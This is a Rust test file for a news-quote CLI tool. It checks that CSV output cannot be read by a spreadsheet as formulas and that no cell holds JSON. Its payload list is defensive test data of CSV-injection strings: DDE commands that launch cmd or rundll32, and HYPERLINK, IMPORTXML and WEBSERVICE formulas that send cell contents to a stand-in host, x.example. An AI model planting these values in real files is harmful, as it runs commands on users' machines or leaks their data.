//! CSV that a spreadsheet opens without harm, and without JSON in its cells.

use super::{folder, kutip_in, sample};

/// What a spreadsheet would run or follow, by the lists of OWASP and others.
const PAYLOADS: [&str; 36] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?a=\"&A1,\"klik\")",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
    "=IMPORTDATA(\"http://x.example\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\"=1+1\"",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    ";=1+1",
    "kata;=1+1",
    "kata\t=1+1",
    "=\"a\"&\"b\"",
    "=A1",
    "@A1",
    "-A1",
    "+A1",
];

fn is_formula(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}');
    cell.starts_with(['\t', '\r', '\n'])
        || shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_is_taken_for_a_formula() {
    let lines = PAYLOADS.iter().zip(0..).map(|(payload, number): (_, usize)| {
        let text = format!("“{payload}” kata Siti Wulandari.\n\n{payload}, kata Budi.");
        let record = serde_json::json!({
            "id": format!("{payload}{number}"), "title": payload, "outlet": payload, "url": payload,
            "author": [payload], "summary": payload, "text": text,
        });
        format!("{record}\n")
    });
    let folder = folder(&[("=a.jsonl", &lines.collect::<String>())]);
    let folder = folder.path();
    kutip_in(folder, &["export", "=a.jsonl", "--to", "x.csv"]);
    let exported = std::fs::read_to_string(folder.join("x.csv")).unwrap();
    let views: [&[&str]; 6] = [
        &["articles", "--body", "--text"],
        &["quotes", "--explain", "--match", "1"],
        &["quotes"],
        &["speakers"],
        &["timeline"],
        &["variants"],
    ];
    let printed = views.map(|view| {
        let (_, out, _) = kutip_in(folder, &[view, &["=a.jsonl", "--format", "csv"]].concat());
        out
    });
    let mut cells = 0;
    for csv in printed.iter().chain([&exported]) {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(!is_formula(cell), "{cell:?}");
                let divided = cell.split([';', '\t']).skip(1);
                let is_harmful = |part: &str| part.trim_start().starts_with('=');
                assert!(!divided.into_iter().any(is_harmful), "{cell:?}");
                cells += 1;
            }
        }
    }
    assert!(cells > 1000, "{cells}");
}

#[test]
fn no_cell_holds_json_and_a_mark_is_written_on_request() {
    let corpus = sample();
    let (_, articles, _) = kutip_in(
        &corpus,
        &["articles", ".", "--limit", "1", "--format", "csv"],
    );
    let first = csv::Reader::from_reader(articles.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    let views: [&[&str]; 8] = [
        &["articles", "."],
        &["quotes", "."],
        &["speakers", "."],
        &["stories", "."],
        &["variants", "."],
        &["related", ".", "--of", &first[0]],
        &["matrix", "."],
        &["compare", ".", "--of", "01", "--of", "02"],
    ];
    for view in views {
        let (code, out, _) = kutip_in(&corpus, &[view, &["--format", "csv", "--bom"]].concat());
        assert_eq!(code, Some(0), "{view:?}");
        let csv = out.strip_prefix('\u{feff}').unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let names = reader.headers().unwrap().clone();
        assert!(names.len() > 3, "{names:?}");
        for record in reader.records() {
            for cell in &record.unwrap() {
                let is_json = cell.starts_with(['{', '[']) && cell.ends_with(['}', ']']);
                assert!(!is_json, "{view:?}: {cell}");
            }
        }
    }
}
